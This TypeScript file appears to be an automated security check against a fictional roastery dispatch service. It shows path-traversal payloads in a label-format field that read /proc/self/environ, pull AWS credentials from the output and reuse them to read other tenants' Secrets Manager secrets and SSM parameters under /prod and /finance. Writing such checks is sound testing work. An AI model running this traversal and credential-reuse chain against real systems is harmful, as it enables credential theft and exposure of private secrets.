import { GetSecretValueCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { GetParametersByPathCommand, SSMClient } from '@aws-sdk/client-ssm';
import { type CheckContext, fail, hex, type Outcome, pass } from '../../server/kit.ts';
import { dispatch, othersSecrets } from './roastery.ts';

/** Ways out of the folder of formats to the variables of the process. */
const formats = (depth: number): string[] => [
  `${'../'.repeat(depth)}proc/self/environ`,
  `small/${'../'.repeat(depth + 1)}proc/thread-self/environ`,
  `./${'./../'.repeat(depth)}proc/self/task/../environ`,
  `${'..//'.repeat(depth)}/proc//self/./environ`,
];

/** A customer picks the format of the label: the variables of dispatch. Whoever reads the label looks for secrets. */
export async function readEverySecret(ctx: CheckContext): Promise<Outcome> {
  const ways = formats(6 + (ctx.random.bytes(1)[0]! % 6));
  const format = ways[ctx.random.bytes(1)[0]! % ways.length]!;
  const printed = await dispatch(ctx, { order: `B-${hex(ctx.random, 3)}`, name: 'Ada', city: 'Porto', format });
  const variables = new Map(
    String(labelOf(printed.text))
      .split('\0')
      .map((line) => [line.slice(0, line.indexOf('=')), line.slice(line.indexOf('=') + 1)]),
  );
  const [accessKeyId, secretAccessKey, sessionToken] = ['ACCESS_KEY_ID', 'SECRET_ACCESS_KEY', 'SESSION_TOKEN'].map(
    (name) => variables.get(`AWS_${name}`),
  );
  if (!accessKeyId || !secretAccessKey || !sessionToken)
    return fail('a label of dispatch no longer brings credentials back');
  const thief = ctx.holder('whoever read the label', { accessKeyId, secretAccessKey, sessionToken });
  for (const SecretId of othersSecrets) {
    const got = await ctx.attempt(() =>
      thief.client(SecretsManagerClient).send(new GetSecretValueCommand({ SecretId })),
    );
    if (got.ok) return pass(`credentials from a label of dispatch read the secret ${SecretId}`);
  }
  for (const Path of ['/', '/prod', '/finance']) {
    const input = { Path, Recursive: true, WithDecryption: true };
    const got = await ctx.attempt(() => thief.client(SSMClient).send(new GetParametersByPathCommand(input)));
    if (got.ok && got.value.Parameters?.length)
      return pass(`credentials from a label of dispatch read the parameters below ${Path}`);
  }
  return fail('credentials from a label of dispatch read no secret of others');
}

function labelOf(text: string): unknown {
  try {
    return (JSON.parse(text) as { label?: unknown } | null)?.label;
  } catch {
    return undefined;
  }
}
